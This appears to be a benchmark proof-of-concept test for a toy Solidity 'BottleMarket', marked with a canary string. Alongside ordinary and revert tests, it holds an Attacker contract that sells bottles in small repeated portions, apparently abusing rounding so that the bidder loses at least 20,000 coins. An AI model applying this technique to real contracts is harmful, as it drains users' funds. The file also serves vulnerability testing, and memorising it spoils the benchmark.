// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-02b04ff7-4f7a-4f85-9ee4-2156c6aeba13

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BottleMarket.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Cask is ERC20 {
    constructor() ERC20("Cask", "CASK") {
        _mint(msg.sender, 1_000);
    }

    function decimals() public pure override returns (uint8) {
        return 0;
    }
}

/// Sells its bottles in small portions.
contract Attacker {
    function storeAll(BottleMarket market) external {
        uint256 casks = market.cask().balanceOf(address(this));
        market.cask().approve(address(market), casks);
        market.store(casks);
    }

    function sellOut(BottleMarket market, uint256 id) external {
        uint256 casks = market.casksOf(address(this));
        while (true) {
            uint256 bottles = (market.bottlesOf(address(this)) - 1) / casks;
            if (bottles == 0) break;
            market.sell(id, bottles);
        }
        market.fetch();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Coin public coin;
    Cask public cask;
    BottleMarket public market;
    Attacker public seller;

    function setUp() public {
        coin = new Coin();
        cask = new Cask();
        market = new BottleMarket(cask, coin);
        coin.transfer(ANNA, 24_000e6);
        vm.startPrank(ANNA);
        coin.approve(address(market), type(uint256).max);
        market.bid(10e6, 2_400);
        vm.stopPrank();
        _store(BELA, 20);
        seller = new Attacker();
        cask.transfer(address(seller), 10);
    }

    function _store(address who, uint256 casks) private {
        cask.transfer(who, casks);
        vm.startPrank(who);
        cask.approve(address(market), casks);
        market.store(casks);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(market.bottlesOf(BELA) == 4_800 && market.casksOf(BELA) == 20, "stored");
        vm.prank(BELA);
        market.sell(0, 480);
        require(coin.balanceOf(BELA) == 4_800e6 && market.casksOf(ANNA) == 2 && market.casksOf(BELA) == 18, "sold");
        vm.prank(ANNA);
        require(market.fetch() == 2 && cask.balanceOf(ANNA) == 2 && market.bottlesOf(ANNA) == 0, "fetched");
        vm.prank(BELA);
        market.sell(0, 1_200);
        vm.prank(ANNA);
        market.takeBack(0);
        require(coin.balanceOf(ANNA) == 7_200e6, "taken back");
        vm.startPrank(ANNA);
        market.bid(5e6, 1);
        vm.stopPrank();
        require(coin.balanceOf(ANNA) == 7_195e6, "another");
        vm.prank(BELA);
        require(market.fetch() == 13, "the rest");
    }

    function test_Refuses() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(BottleMarket.TooMany.selector, 2_401, 2_400));
        market.sell(0, 2_401);
        vm.expectRevert(abi.encodeWithSelector(CaskBook.TooFew.selector, BELA, 0));
        market.sell(0, 0);
        vm.expectRevert(abi.encodeWithSelector(BottleMarket.NotTheBidder.selector, BELA));
        market.takeBack(0);
        vm.stopPrank();
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(CaskBook.NoCask.selector, ANNA));
        market.fetch();
        vm.expectRevert(abi.encodeWithSelector(CaskBook.TooFew.selector, ANNA, 240));
        market.sell(0, 240);
        vm.stopPrank();
    }

    /// What the bidder has: coins that wait, and casks at the price of its bid.
    function worth() external view returns (uint256) {
        (, uint256 price, uint256 bottles) = market.bids(0);
        return price * bottles + market.casksOf(ANNA) * market.BOTTLES() * price;
    }

    function exploit() public {
        seller.storeAll(market);
        seller.sellOut(market, 0);
    }

    function test_Exploit() public {
        uint256 before = this.worth();
        exploit();
        require(this.worth() + 20_000e6 <= before, "no loss");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(seller);
    }
}
